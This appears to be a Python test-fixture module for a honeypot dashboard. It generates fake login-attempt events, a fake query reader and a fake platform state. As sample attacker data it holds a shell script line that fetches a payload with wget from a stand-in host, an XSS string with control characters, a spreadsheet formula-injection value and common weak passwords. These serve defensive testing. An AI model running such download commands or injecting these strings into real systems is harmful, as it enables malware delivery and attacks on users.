"""A store, a platform and events without files or processes: deterministic, and as hostile as the real ones."""

import hashlib
import random
from collections import Counter
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path

from samovar.event import Event
from samovar.query import match
from samovar.query.tree import Node
from samovar.store.interface import (
    Artefact,
    Cell,
    Histogram,
    Page,
    Series,
    SessionRow,
    SourceReport,
    Span,
    Summary,
    SummaryRow,
    TermRow,
    Terms,
    Unit,
)
from samovar.web.state import Backup, Counters, Disk, Geo, Health, Port, Process, SensorCount, Technique, Worker

SAMPLE = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
SHA256 = hashlib.sha256(SAMPLE).hexdigest()
HOSTILE = "<script>alert(1)</script>\u202e\x1b[31m"
_PLACES = (
    ("RU", "Russia", "Moscow", 55.75, 37.62, 64500, "Example Hosting"),
    ("CN", "China", "Beijing", 39.9, 116.4, 64501, "Example Telecom"),
    ("US", "United States", "Ashburn", 39.04, -77.49, 64502, "Example Cloud"),
    ("SG", "Singapore", "Singapore", 1.29, 103.85, 64503, "Example Sea"),
    ("BR", "Brazil", "São Paulo", -23.55, -46.63, 64504, "Example Fibra"),
)
_SENSORS = (("terminal", "ssh", 22), ("terminal", "telnet", 23), ("web", "http", 80), ("services", "ftp", 21))


def make_event(at: datetime, number: int = 0, **more: object) -> Event:
    """One login attempt; ``more`` overrides any field."""
    rng = random.Random(number)
    iso, country, city, lat, lon, asn, org = rng.choices(_PLACES, (60, 15, 10, 8, 7))[0]
    family, sensor, port = rng.choices(_SENSORS, (80, 10, 6, 4))[0]
    fields: dict[str, object] = {
        "timestamp": at,
        "event_id": f"{int(at.timestamp() * 1e6):013x}{number:010x}",
        "event_sequence": number % 3,
        "event_module": family,
        "event_dataset": f"{family}.{sensor}",
        "event_action": ("connect", "login", "command")[number % 3],
        "network_protocol": sensor,
        "observer_name": "urn",
        "samovar_session_id": f"s{number // 3:022x}",
        "source_ip": f"198.51.100.{rng.randint(1, 60)}",
        "source_port": 40000 + number % 20000,
        "destination_ip": "192.0.2.10",
        "destination_port": port,
        "network_transport": "tcp",
        "source_geo_country_iso_code": iso,
        "source_geo_country_name": country,
        "source_geo_city_name": city,
        "source_geo_lat": lat,
        "source_geo_lon": lon,
        "source_as_number": asn,
        "source_as_organization_name": org,
    }
    if number % 3 == 1:
        fields["event_outcome"] = "failure"
        fields["user_name"] = rng.choice(("root", "admin", "test", "oracle", HOSTILE, "=1+1"))
        fields["samovar_login_password"] = rng.choice(("123456", "password", "root", "admin123", HOSTILE))
    if number % 3 == 2:
        fields["process_command_line"] = rng.choice(("uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/x"))
        fields["samovar_detail"] = {"cwd": "/root", "tries": number % 7}
    return Event(**{**fields, **more})  # type: ignore[arg-type]  # the test says which fields


def make_events(count: int, until: datetime | None = None, every: float = 10.0) -> list[Event]:
    """``count`` events, oldest first, the last at ``until`` (now)."""
    end = until or datetime.now(UTC)
    return [make_event(end - timedelta(seconds=every * (count - 1 - n)), n) for n in range(count)]


class FakeReader:
    """Answers from a list. ``calls`` says what was asked how often."""

    def __init__(self, events: Sequence[Event]) -> None:
        self.all = list(events)
        self.calls: Counter[str] = Counter()

    def _found(self, name: str, where: Node | None, span: Span) -> list[Event]:
        self.calls[name] += 1
        return [e for e in self.all if span.start <= e.timestamp < span.end and match(where, e)]

    def summary(self, where: Node | None, span: Span) -> Summary:
        found = self._found("summary", where, span)
        groups: dict[tuple[str, str], list[Event]] = {}
        for event in found:
            groups.setdefault((event.event_module, event.network_protocol or ""), []).append(event)
        rows = [SummaryRow(*key, _attacks(group), _logins(group), _sources(group)) for key, group in groups.items()]
        rows.sort(key=lambda row: -row.attacks)
        return Summary(tuple(rows), _attacks(found), len(found), _logins(found), _sources(found))

    def histogram(
        self, where: Node | None, span: Span, *, by: str | None, buckets: int, top: int, unit: Unit
    ) -> Histogram:
        found = self._found("histogram", where, span)
        start = span.start.timestamp()
        interval = max(1, int((span.end.timestamp() - start) / buckets) + 1)
        keys = [key for key, _ in Counter(str(getattr(e, by)) for e in found if by).most_common(top)] if by else [""]
        counts = {key: [0] * buckets for key in [*keys, ""]}
        seen: list[set[str]] = [set() for _ in range(buckets)]
        for event in found:
            bucket = min(int((event.timestamp.timestamp() - start) / interval), buckets - 1)
            key = str(getattr(event, by)) if by else ""
            counts[key if key in counts else ""][bucket] += 1
            seen[bucket].add(event.source_ip)
        times = tuple(int(start) + interval * n for n in range(buckets))
        series = tuple(Series(key, tuple(count)) for key, count in counts.items() if any(count))
        return Histogram(interval, times, series, tuple(len(ips) for ips in seen))

    def terms(self, where: Node | None, span: Span, fields: Sequence[str], *, size: int, unit: Unit) -> Terms:
        found = self._found("terms", where, span)
        groups: dict[tuple[str, ...], list[Event]] = {}
        for event in found:
            values = [_value(event, field) for field in fields]
            if all(value is not None for value in values):
                groups.setdefault(tuple(str(value) for value in values), []).append(event)
        rows = [TermRow(key, len(group), _sources(group)) for key, group in groups.items()]
        rows.sort(key=lambda row: (-row.count, row.values))
        return Terms(tuple(fields), tuple(rows[:size]), sum(row.count for row in rows), len(rows))

    def map(self, where: Node | None, span: Span, *, size: int) -> tuple[Cell, ...]:
        counts: Counter[tuple[float, float, str, str]] = Counter()
        for e in self._found("map", where, span):
            counts[e.source_geo_lat or 0, e.source_geo_lon or 0, e.source_geo_country_iso_code or "",
                   e.source_geo_city_name or ""] += 1  # fmt: skip
        return tuple(Cell(*place, count) for place, count in counts.most_common(size))

    def events(
        self,
        where: Node | None,
        span: Span,
        *,
        limit: int,
        cursor: str | None = None,
        oldest_first: bool = False,
    ) -> Page:
        found = self._found("events", where, span)
        ordered = found if oldest_first else found[::-1]
        if cursor and not cursor.isdigit():
            raise ValueError("cursor: not one of ours")
        begin = int(cursor or 0)
        end = begin + limit
        return Page(tuple(ordered[begin:end]), str(end) if end < len(ordered) else None)

    def scan(self, where: Node | None, span: Span) -> Iterator[Event]:
        yield from self._found("scan", where, span)

    def sessions(
        self, where: Node | None, span: Span, *, limit: int, cursor: str | None = None
    ) -> tuple[SessionRow, ...]:
        groups: dict[str, list[Event]] = {}
        for event in self._found("sessions", where, span)[::-1]:
            groups.setdefault(event.samovar_session_id, []).append(event)
        rows = [_row(name, group) for name, group in groups.items() if not cursor or name < cursor]
        return tuple(rows[:limit])

    def session(self, session_id: str) -> tuple[Event, ...]:
        self.calls["session"] += 1
        return tuple(e for e in self.all if e.samovar_session_id == session_id)

    def source(self, ip: str, span: Span) -> SourceReport:
        self.calls["source"] += 1
        own = [e for e in self.all if e.source_ip == ip]
        first, last = (own[0].timestamp, own[-1].timestamp) if own else (None, None)
        inner = FakeReader(own)

        def tops(*fields: str) -> tuple[TermRow, ...]:
            return inner.terms(None, span, fields, size=10, unit="events").rows

        return SourceReport(
            ip,
            own[0].source_geo_country_iso_code or "" if own else "",
            own[0].source_as_number if own else None,
            own[0].source_as_organization_name or "" if own else "",
            first,
            last,
            _attacks(own),
            len(own),
            tops("event_dataset"),
            tops("user_name", "samovar_login_password"),
            tops("process_command_line"),
            inner.sessions(None, span, limit=20),
        )

    def artefacts(self, where: Node | None, span: Span, *, limit: int) -> tuple[Artefact, ...]:
        self.calls["artefacts"] += 1
        md5 = hashlib.md5(SAMPLE, usedforsecurity=False).hexdigest()
        return (Artefact(SHA256, md5, len(SAMPLE), "x", span.start, span.end, 3, 2),)[:limit]

    def bounds(self) -> Span | None:
        return Span(self.all[0].timestamp, self.all[-1].timestamp) if self.all else None

    def size(self) -> int:
        return 170 * len(self.all)


class FakeState:
    """A platform in good health with one artefact, kept in ``folder``."""

    def __init__(self, folder: Path, reader: FakeReader, *, demo: bool = False) -> None:
        self._file = folder / SHA256
        self._file.write_bytes(SAMPLE)
        self.recordings = folder / "recordings"
        self.recordings.mkdir(exist_ok=True)
        self.growing: set[str] = set()
        self._reader = reader
        self._demo = demo

    def health(self) -> Health:
        return Health(
            version="0.1.0",
            uptime=61.5,
            demo=self._demo,
            geo=Geo(True, "IP Geolocation by DB-IP"),
            events=len(self._reader.all),
            lag=0.25,
            drops={"event": 0},
            datagrams={"received": 9, "sent": 7},
            workers=(Worker(101), Worker(102, 1, ("landlock",))),
            disk=Disk(12 << 20, 20 << 30, 100 << 30, "ok"),
        )

    def sensors(self) -> tuple[Port, ...]:
        return tuple(Port(s, family, "tcp", port, f"127.0.0.1:{20000 + port}") for family, s, port in _SENSORS)

    def counters(self) -> Counters:
        return Counters(
            sessions=10,
            active=2,
            events=len(self._reader.all),
            drops={'odd"kind\n': 3},
            lag=0.25,
            store=self._reader.size(),
            sensors=(SensorCount("terminal", "ssh", 8, 20),),
            processes=(Process("hub", 100, 50 << 20),),
        )

    def artefact(self, sha256: str) -> Path | None:
        return self._file if sha256 == SHA256 else None

    def recording(self, session_id: str) -> Path | None:
        path = self.recordings / f"{session_id}.cast"
        return path if path.is_file() else None

    def recording_grows(self, session_id: str) -> bool:
        return session_id in self.growing

    def techniques(self) -> tuple[Technique, ...]:
        return (
            Technique("T1082", "System Information Discovery", "https://attack.mitre.org/techniques/T1082/"),
            Technique("T1105", "Ingress Tool Transfer", "https://attack.mitre.org/techniques/T1105/"),
        )

    def backup(self) -> Backup:
        return Backup("backup")


def _value(event: Event, field: str) -> object:
    if field.startswith("samovar_detail."):
        return event.samovar_detail.get(field.removeprefix("samovar_detail."))
    return getattr(event, field)


def _attacks(events: Sequence[Event]) -> int:
    return len({event.samovar_session_id for event in events})


def _logins(events: Sequence[Event]) -> int:
    return sum(event.event_action == "login" for event in events)


def _sources(events: Sequence[Event]) -> int:
    return len({event.source_ip for event in events})


def _row(name: str, group: Sequence[Event]) -> SessionRow:
    first = group[-1]
    return SessionRow(
        name,
        first.timestamp,
        first.event_module,
        first.network_protocol or "",
        first.source_ip,
        first.destination_port,
        len(group),
        _logins(group),
        sum(event.event_action == "command" for event in group),
        first.source_geo_country_iso_code or "",
        sum(event.event_action == "file" for event in group),
        (group[0].timestamp - first.timestamp).total_seconds(),
    )
